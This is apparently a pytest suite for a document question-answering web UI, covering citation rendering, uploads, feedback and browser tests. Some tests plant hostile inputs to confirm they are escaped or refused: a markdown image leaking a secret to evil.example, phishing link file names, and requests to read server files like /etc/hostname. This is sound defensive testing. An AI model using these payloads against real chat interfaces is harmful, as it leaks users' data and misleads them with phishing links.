from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from pydantic import SecretStr

from rag import Pipeline
from rag.data import Citation
from rag.feedback import collection_rows
from rag.serve.app import create_app
from ui.app import build_ui, corpus_examples
from ui.render import chat_message, highlight, plain, status

from .conftest import ROOT, serving
from .scripted_llm import Reply, ScriptedLLM

EN_QUESTION = "When was the Silk Road Fund set up?"

SCREENSHOT = ROOT / "reports" / "ui-screenshot.png"
WAIT_S = 60


def test_highlight_marks_the_span_inside_its_paragraph(fake_pipe: Pipeline) -> None:
    doc = fake_pipe.documents["en.txt"]
    start = doc.text.index("It invests")
    html = highlight(doc, start, start + 10)
    assert "<mark>It invests</mark>" in html
    assert "set up in 2014" in html and "20 projects" not in html


def test_each_chat_answer_keeps_its_sources_named_by_document_and_page(fake_pipe: Pipeline) -> None:
    answer = fake_pipe.ask("When was the Silk Road Fund set up?")
    cited = Citation(2, "report.pdf", 10, 20, "x", 1.0, page=3)
    message = chat_message(answer.__class__(**{**answer.__dict__, "citations": [*answer.citations, cited]}))
    assert message.startswith(plain(answer.text))
    assert "**Sources**" in message and "[en\\.txt](/view/en.txt?start=0&end=" in message
    assert "\\[2\\] [report\\.pdf, p\\. 3](/view/report.pdf?start=10&end=20#cite)" in message


def test_what_documents_and_models_write_cannot_become_markup_in_the_chat(fake_pipe: Pipeline) -> None:
    """A planted image or link would make the browser fetch a URL of the document's choosing."""
    answer = fake_pipe.ask("When was the Silk Road Fund set up?")
    planted = "See ![x](http://evil.example/?d=secret) and <img src=http://evil.example/b.png> [1]"
    name = "p](https://evil.example/?phish=1)x.txt"
    cited = Citation(1, name, 0, 5, "x", 1.0)
    message = chat_message(answer.__class__(**{**answer.__dict__, "text": planted, "citations": [cited]}))
    assert "![" not in message and "<img" not in message and "](http" not in message
    assert message.startswith("See \\!\\[x\\]\\(http\\:") and "&lt;img" in message
    assert "(/view/p%5D%28https%3A//evil.example/%3Fphish%3D1%29x.txt?start=0&end=5#cite)" in message


def test_example_questions_come_from_the_loaded_documents(fake_pipe: Pipeline) -> None:
    fake_pipe.add_document(
        b"The Asian Infrastructure Investment Bank lends. The Asian Infrastructure Investment Bank grew.",
        "aiib.txt",
    )
    fake_pipe.add_document("世界贸易组织成立于1995年。世界贸易组织有很多成员。".encode(), "wto.txt")
    examples = corpus_examples(fake_pipe)
    assert "What do the documents say about Asian Infrastructure Investment Bank?" in examples
    assert "关于世界贸易组织，文档中说了什么？" in examples
    given = fake_pipe.derived(settings=fake_pipe.settings.model_copy(update={"examples": ["Who?"]}))
    assert corpus_examples(given) == ["Who?"]


def test_the_ui_queue_polls_at_the_configured_intervals(fake_pipe: Pipeline) -> None:
    import gradio as gr

    with gr.Blocks() as plain_demo:
        gr.Markdown("x")
    # The attributes `slow_polling` sets must be Gradio's own: setting missing ones would change nothing.
    assert plain_demo._queue.sleep_when_free < 0.02 and plain_demo._queue.progress_update_sleep_when_free < 0.2
    settings = fake_pipe.settings.model_copy(update={"ui_queue_poll_s": 0.05, "ui_progress_poll_s": 0.5})
    demo = build_ui(fake_pipe.derived(settings=settings))
    assert (demo._queue.sleep_when_free, demo._queue.progress_update_sleep_when_free) == (0.05, 0.5)


@contextmanager
def chromium() -> Iterator[Any]:
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    binary, driver_path = shutil.which("chromium"), shutil.which("chromedriver")
    assert binary and driver_path, "install Debian's chromium and chromium-driver (make test does, as root)"
    options = webdriver.ChromeOptions()
    options.binary_location = binary
    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1400,1000"):
        options.add_argument(arg)
    browser = webdriver.Chrome(service=Service(driver_path), options=options)
    try:
        yield browser
    finally:
        browser.quit()


def ask_in_browser(browser: Any, wait: Any, question: str) -> None:
    """Type `question` into the open chat and send it."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as ec

    box = wait.until(ec.element_to_be_clickable((By.CSS_SELECTOR, "#question textarea")))
    box.send_keys(question)
    browser.find_element(By.CSS_SELECTOR, "#ask").click()


@pytest.fixture(scope="module", params=[None, "s3cret"], ids=["open", "token"])
def server(request: pytest.FixtureRequest, pipe: Pipeline) -> Iterator[tuple[str, str | None]]:
    token: str | None = request.param
    secret = SecretStr(token) if token else None
    guarded = pipe.derived(settings=pipe.settings.model_copy(update={"api_token": secret}))
    with serving(create_app(guarded)) as url:
        yield url, token


@pytest.mark.e2e
def test_browser_asks_in_chinese_and_sees_sources(server: tuple[str, str | None]) -> None:
    """With a token set, the browser logs in once at /login; the UI's own calls then carry the session."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as ec
    from selenium.webdriver.support.ui import WebDriverWait

    with chromium() as browser:
        url, token = server
        browser.get(url)
        wait = WebDriverWait(browser, WAIT_S)
        if token is not None:
            field = wait.until(ec.element_to_be_clickable((By.CSS_SELECTOR, "input[name=token]")))
            field.send_keys(token)
            field.submit()
        ask_in_browser(browser, wait, "中国是在哪一年正式加入世界贸易组织的？")
        wait.until(ec.presence_of_element_located((By.CSS_SELECTOR, "#sources mark")))
        sources = browser.find_element(By.CSS_SELECTOR, "#sources").text
        assert "000_52703944bae284e8.txt" in sources and "2001" in sources
        assert "置信度" in sources  # the confidence, labelled in the question's language
        chat = browser.find_element(By.CSS_SELECTOR, "#chat").text
        assert "[1]" in chat and "以下依据来自英文文献" in chat
        SCREENSHOT.parent.mkdir(exist_ok=True)
        browser.save_screenshot(str(SCREENSHOT))
        assert SCREENSHOT.stat().st_size > 10_000


@pytest.mark.e2e
def test_browser_uploads_asks_follows_a_source_and_deletes(fake_pipe: Pipeline, tmp_path: Path) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as ec
    from selenium.webdriver.support.ui import WebDriverWait

    upload = tmp_path / "ports.txt"
    upload.write_text("The port of Piraeus handled 5 million containers in 2019 after COSCO invested.", "utf-8")
    with serving(create_app(fake_pipe)) as url, chromium() as browser:
        wait = WebDriverWait(browser, WAIT_S)
        browser.get(url)
        tab = wait.until(ec.element_to_be_clickable((By.XPATH, "//button[@role='tab' and contains(., 'Documents')]")))
        tab.click()
        browser.find_element(By.CSS_SELECTOR, "#upload input[type=file]").send_keys(str(upload))
        wait.until(ec.text_to_be_present_in_element((By.CSS_SELECTOR, "#upload"), "ports"))
        browser.find_element(By.CSS_SELECTOR, "#add").click()
        wait.until(ec.text_to_be_present_in_element((By.CSS_SELECTOR, "#upload-status"), "ports.txt: added"))
        wait.until(ec.text_to_be_present_in_element((By.CSS_SELECTOR, "#documents"), "ports.txt"))
        assert "ports.txt" in fake_pipe.documents

        browser.find_element(By.XPATH, "//button[@role='tab' and contains(., 'Chat')]").click()
        box = wait.until(ec.element_to_be_clickable((By.CSS_SELECTOR, "#question textarea")))
        for question in ("How many containers did the port of Piraeus handle?", "When was the Silk Road Fund set up?"):
            box.send_keys(question)
            browser.find_element(By.CSS_SELECTOR, "#ask").click()
            wait.until(ec.text_to_be_present_in_element((By.CSS_SELECTOR, "#chat"), question))
            wait.until(lambda b, q=question: b.find_element(By.CSS_SELECTOR, "#chat").text.rstrip().endswith(".txt"))
        links = [a.get_attribute("href") for a in browser.find_elements(By.CSS_SELECTOR, "#chat a")]
        assert any("/view/ports.txt?" in (h or "") for h in links), links  # the first answer keeps its source
        assert any("/view/en.txt?" in (h or "") for h in links), links
        browser.get(next(h for h in links if h and "/view/ports.txt?" in h))
        assert "5 million containers" in browser.find_element(By.CSS_SELECTOR, "mark#cite").text

        browser.get(url)
        wait.until(ec.element_to_be_clickable((By.XPATH, "//button[@role='tab' and contains(., 'Documents')]"))).click()
        chosen = wait.until(ec.element_to_be_clickable((By.CSS_SELECTOR, "#chosen input")))
        chosen.send_keys("ports.txt")
        wait.until(ec.element_to_be_clickable((By.XPATH, "//li[contains(., 'ports.txt')]"))).click()
        browser.find_element(By.CSS_SELECTOR, "#delete").click()
        wait.until(ec.text_to_be_present_in_element((By.CSS_SELECTOR, "#upload-status"), "ports.txt: deleted"))
    assert "ports.txt" not in fake_pipe.documents


@pytest.mark.e2e
def test_browser_follows_a_citation_to_its_section_with_the_path_shown(fake_pipe: Pipeline) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as ec
    from selenium.webdriver.support.ui import WebDriverWait

    from .test_sections import FAQ_HTML, HOLD, QUESTION

    fake_pipe.add_document(FAQ_HTML.encode(), "faq.html")
    with serving(create_app(fake_pipe)) as url, chromium() as browser:
        wait = WebDriverWait(browser, WAIT_S)
        browser.get(url)
        ask_in_browser(browser, wait, QUESTION)
        wait.until(ec.presence_of_element_located((By.CSS_SELECTOR, "#chat a[href*='/view/faq.html?']")))
        assert HOLD in browser.find_element(By.CSS_SELECTOR, "#chat").text  # the citation names its section
        browser.get(browser.find_element(By.CSS_SELECTOR, "#chat a[href*='/view/faq.html?']").get_attribute("href"))
        assert browser.find_element(By.CSS_SELECTOR, "#section").text == HOLD
        cited = browser.find_element(By.CSS_SELECTOR, "mark#cite").text
        shown = browser.find_element(By.TAG_NAME, "body").text
        # The section alone (the cited sentence is its heading or the answer under it), not its neighbour 7.11.
        assert cited and "apt-mark" in shown and "virtual package" not in shown
        browser.find_element(By.CSS_SELECTOR, "#whole").click()
        wait.until(ec.text_to_be_present_in_element((By.TAG_NAME, "body"), "virtual package"))
        assert browser.find_element(By.CSS_SELECTOR, "mark#cite").text == cited


@pytest.mark.e2e
def test_a_thumbs_down_in_the_browser_reaches_the_feedback_export(fake_pipe: Pipeline) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as ec
    from selenium.webdriver.support.ui import WebDriverWait

    with serving(create_app(fake_pipe)) as url, chromium() as browser:
        wait = WebDriverWait(browser, WAIT_S)
        browser.get(url)
        ask_in_browser(browser, wait, EN_QUESTION)
        wait.until(lambda b: b.find_element(By.CSS_SELECTOR, "#chat").text.rstrip().endswith(".txt"))
        browser.find_element(By.CSS_SELECTOR, "#feedback-comment textarea").send_keys("The second source is off topic.")
        thumbs = wait.until(ec.element_to_be_clickable((By.CSS_SELECTOR, "#chat button[aria-label='Dislike']")))
        thumbs.click()
        wait.until(ec.text_to_be_present_in_element((By.CSS_SELECTOR, "#feedback-status"), "rating is recorded"))
    [row] = collection_rows(fake_pipe.settings)
    assert row["question"] == EN_QUESTION and row["split"] == "tune" and row["checked"] is False
    assert row["feedback"]["rating"] == "down" and row["feedback"]["comment"] == "The second source is off topic."
    assert row["feedback"]["answer"] == fake_pipe.ask(EN_QUESTION).text and row["feedback"]["citations"]


def test_a_rating_in_the_chat_records_the_answer_it_was_given_on(fake_pipe: Pipeline) -> None:
    """The answer kept by its message's index, with the comment and the source chosen beside the chat.

    Gradio's API route carries neither like data nor the session's state, so the handlers are called as the
    chat's events call them.
    """
    import gradio as gr

    handlers = {f.name: f.fn for f in build_ui(fake_pipe).fns.values()}
    *_, (chat, _, _, _, answers) = handlers["respond"](EN_QUESTION, [], [], {})  # type: ignore[misc]
    assert set(answers) == {1} and chat[1]["role"] == "assistant"
    rate = handlers["rate"]
    assert rate is not None
    question_only = rate(answers, "", None, gr.LikeData(None, {"index": 0, "value": chat[0]["content"]}))
    assert "Only answers can be rated" in question_only[0] and fake_pipe.collection.store.feedback() == []
    shown, comment, source = rate(answers, "Good.", "en.txt", gr.LikeData(None, {"index": 1, "value": ""}))
    assert "rating is recorded" in shown and (comment, source) == ("", None)
    cleared = rate(answers, "", None, gr.LikeData(None, {"index": 1, "value": "", "liked": ""}))
    assert "stays recorded" in cleared[0]  # a thumb clicked off again takes nothing back
    [item] = fake_pipe.collection.store.feedback()
    assert (item.rating, item.question, item.comment, item.correct_doc) == ("up", EN_QUESTION, "Good.", "en.txt")
    assert item.answer == fake_pipe.ask(EN_QUESTION).text and item.citations[0]["doc"] == "en.txt"


def test_an_internal_fault_stays_in_the_log(fake_pipe: Pipeline, monkeypatch: pytest.MonkeyPatch) -> None:
    from fastapi.testclient import TestClient

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("secret detail from /srv/internal/path")

    monkeypatch.setattr(fake_pipe, "chat_stream", broken)
    monkeypatch.setattr(fake_pipe, "search", broken)
    with TestClient(create_app(fake_pipe)) as client:
        for route, data in (("respond", ["Why?", [], [], {}]), ("search", ["road", [], [], []])):
            event = client.post(f"/gradio_api/call/{route}", json={"data": data}).json()["event_id"]
            stream = client.get(f"/gradio_api/call/{route}/{event}").text
            assert "Something went wrong on the server" in stream, stream
            assert "secret detail" not in stream and "/srv/internal" not in stream


def test_the_chat_streams_an_llm_answer_and_says_what_it_cannot_back(llm_pipe: Pipeline, llm: ScriptedLLM) -> None:
    from fastapi.testclient import TestClient

    llm.replies(Reply(pieces=["The fund ", "was set up ", "in 2014 [1]. ", "It is large."]))
    with TestClient(create_app(llm_pipe)) as client:
        event = client.post("/gradio_api/call/respond", json={"data": [EN_QUESTION, [], [], {}]}).json()["event_id"]
        stream = client.get(f"/gradio_api/call/respond/{event}").text
    messages = [
        json.loads(line[6:])[0][-1]["content"][0]["text"] for line in stream.splitlines() if line.startswith("data: [")
    ]
    assert messages[0] == "The fund" and messages[1] == "The fund was set up"
    assert messages[-1].startswith(plain("The fund was set up in 2014 [1]. It is large."))
    assert "1 of this answer's 2 sentences cite no source" in messages[-1]
    assert "[en\\.txt](/view/en.txt?" in messages[-1]


def test_the_ui_reads_only_files_uploaded_through_it_and_keeps_no_copy(fake_pipe: Pipeline) -> None:
    """A call to the UI's `add` naming a server file (here the project's own SECURITY.md) reads nothing."""
    from fastapi.testclient import TestClient

    def add(client: TestClient, path: str) -> str:
        data = {"data": [[{"path": path, "meta": {"_type": "gradio.FileData"}}]]}
        event = client.post("/gradio_api/call/add", json=data).json()["event_id"]
        return client.get(f"/gradio_api/call/add/{event}").text

    with TestClient(create_app(fake_pipe)) as client:
        for path in (str(ROOT / "SECURITY.md"), "/etc/hostname", "/dev/zero"):
            stream = add(client, path)
            assert "added" not in stream and Path(path).name not in fake_pipe.documents, stream
        files = {"files": ("plan.txt", b"The Silk Road Fund plans a new office in Almaty in 2027.", "text/plain")}
        uploaded = client.post("/gradio_api/upload", files=files).json()[0]
        assert (
            plain("plan.txt: added")
            in ui_call(client, "add", [[{"path": uploaded, "meta": {"_type": "gradio.FileData"}}]])[0]
        )
        assert "plan.txt" in fake_pipe.documents and not Path(uploaded).exists()


PHISHING_NAME = "[Session expired…](https:evil.example) .txt"


def ui_call(client: Any, route: str, data: list[Any]) -> list[Any]:
    """What a UI event returns, through Gradio's API, as the browser gets it."""
    event = client.post(f"/gradio_api/call/{route}", json={"data": data}).json()["event_id"]
    stream = client.get(f"/gradio_api/call/{route}/{event}").text
    done = [line[6:] for line in stream.splitlines() if line.startswith("data: [")]
    assert done, stream
    result: list[Any] = json.loads(done[-1])
    return result


def test_the_status_box_shows_names_as_written() -> None:
    shown = status(f"✓ {PHISHING_NAME}: deleted", "⚠ <img src=x>.txt: refused")
    assert "](" not in shown and "<img" not in shown and "\n\n⚠ &lt;img" in shown
    assert shown.startswith("✓ \\[Session expired…\\]\\(https\\:evil\\.example\\) \\.txt\\: deleted")


def test_document_names_in_the_documents_tab_cannot_become_links(fake_pipe: Pipeline) -> None:
    """A name uploaded through the API, then deleted in the Documents tab; and one uploaded through the UI."""
    from fastapi.testclient import TestClient

    fake_pipe.add_document(b"The Silk Road Fund opened an office in Almaty in 2027.", PHISHING_NAME)
    with TestClient(create_app(fake_pipe)) as client:
        deleted = ui_call(client, "delete", [PHISHING_NAME])[0]
        assert deleted == status(f"✓ {PHISHING_NAME}: deleted · 已删除") and "](" not in deleted
        files = {"files": ("[x](https:evil.example).txt", b"The fund plans an office in Almaty in 2028.", "text/plain")}
        uploaded = client.post("/gradio_api/upload", files=files).json()[0]
        added = ui_call(client, "add", [[{"path": uploaded, "meta": {"_type": "gradio.FileData"}}]])[0]
    assert "added" in added and "](" not in added and "\\[x\\]" in added


def test_the_search_tab_searches_only_the_chosen_documents_languages_and_tags(fake_pipe: Pipeline) -> None:
    from fastapi.testclient import TestClient

    fake_pipe.add_document(b"The Silk Road Fund invests in ports.", "fund.txt", tags=("fund",))

    def found(*data: object) -> set[str]:
        event = client.post("/gradio_api/call/search", json={"data": ["Silk Road Fund", *data]}).json()["event_id"]
        stream = client.get(f"/gradio_api/call/search/{event}").text
        return {name for name in ("en.txt", "zh.md", "fund.txt") if f"/view/{name}?" in stream}

    with TestClient(create_app(fake_pipe)) as client:
        assert found([], [], []) == {"en.txt", "zh.md", "fund.txt"}
        assert found([], ["zh"], []) == {"zh.md"}
        assert found([], [], ["fund"]) == {"fund.txt"}
        assert found(["en.txt", "zh.md"], ["en"], []) == {"en.txt"}
